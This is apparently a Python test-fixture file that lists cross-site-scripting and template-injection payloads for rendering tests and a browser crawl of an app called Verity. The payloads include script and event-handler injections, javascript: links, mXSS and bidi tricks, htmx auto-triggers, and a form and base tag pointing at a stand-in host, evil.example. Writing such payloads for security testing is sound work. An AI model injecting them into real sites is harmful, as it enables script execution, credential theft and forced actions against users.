"""Hostile strings for every place Verity shows untrusted text.

Used by the rendering tests here and (phase 2) by the Playwright crawl, which puts
them into prompts, outputs, guidelines, project names and usernames and opens every
page that shows them. Each payload, if it ever ran, would call `alert` or fetch a URL
under /xss/, so a browser test can detect execution by a dialog or a request.
"""

from __future__ import annotations

ONE_MEGABYTE_TOKEN = "<" + "A" * (1024 * 1024 - 2) + ">"

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('xss-script')</script>",
    "script_uppercase_split": "<SCRIPT SRC=/xss/script.js></SCRIPT>",
    "script_in_markdown_code_escape": "`</code><script>alert('xss-code')</script>`",
    "img_onerror": "<img src=x onerror=\"alert('xss-img')\">",
    "img_markdown_javascript": "![pic](javascript:alert('xss-mdimg'))",
    "svg_onload": "<svg onload=\"alert('xss-svg')\"></svg>",
    "svg_animate": "<svg><animate onbegin=\"alert('xss-animate')\" attributeName=x dur=1s>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.alert('xss-srcdoc')</script>\"></iframe>",
    "iframe_javascript": "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "base_href": "<base href=\"https://evil.example/\">",
    "meta_refresh": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-meta')\">",
    "form_action": "<form action=\"https://evil.example/steal\"><button>Continue</button></form>",
    "formaction_button": "<button formaction=\"javascript:alert('xss-formaction')\">Go</button>",
    "style_tag": "<style>body{background:url('/xss/style')}</style>",
    "style_attribute": "<p style=\"background:url('/xss/style-attr')\">styled</p>",
    "link_stylesheet": "<link rel=stylesheet href=\"/xss/sheet.css\">",
    "markdown_javascript_link": "[click me](javascript:alert('xss-link'))",
    "markdown_javascript_link_obfuscated": "[click](jav&#x09;ascript:alert('xss-link2'))",
    "markdown_data_link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown_vbscript_link": "[vb](vbscript:msgbox(1))",
    "html_anchor_javascript": "<a href=\"javascript:alert('xss-a')\">link</a>",
    "autolink_javascript": "<javascript:alert('xss-autolink')>",
    "htmx_get": "<div hx-get=\"/xss/htmx\" hx-trigger=\"load\">loading</div>",
    "htmx_on": "<button hx-on:click=\"alert('xss-hx-on')\">press</button>",
    "htmx_data_attributes": "<div data-hx-post=\"/accounts/logout/\" data-hx-trigger=\"load\">x</div>",
    "htmx_vals_eval": "<div hx-vals='js:{a: alert(\"xss-vals\")}' hx-post=\"/xss/vals\" hx-trigger=\"load\">x</div>",
    "django_template_variable": "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "django_template_tag": "{% load static %}{% debug %}{% include 'base.html' %}",
    "jinja_style_expression": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "bidi_override": "\u202eexe.txt\u202c <\u202escript>alert('xss-bidi')</script>",
    "bidi_isolates_in_link": "[\u2067safe\u2069](https://example.org/\u202e) \u2066<img src=x onerror=alert('xss-bidi2')>\u2069",
    "null_byte_tag": "<scr\x00ipt>alert('xss-null')</script>",
    "entity_encoded_script": "&lt;script&gt;alert('xss-entity')&lt;/script&gt;",
    "nested_tags": "<<script>script>alert('xss-nested')<</script>/script>",
    "object_embed": "<object data=\"/xss/object\"></object><embed src=\"/xss/embed\">",
    "math_namespace_confusion": "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mxss')>",
    "noscript_mxss": "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-noscript')>\">",
    "template_element": "<template><script>alert('xss-template')</script></template>",
    "one_megabyte_token": ONE_MEGABYTE_TOKEN,
}

# Where a payload, if it ran or loaded, would go: a crawler fails on any request here.
EXFILTRATION_PREFIX = "/xss/"
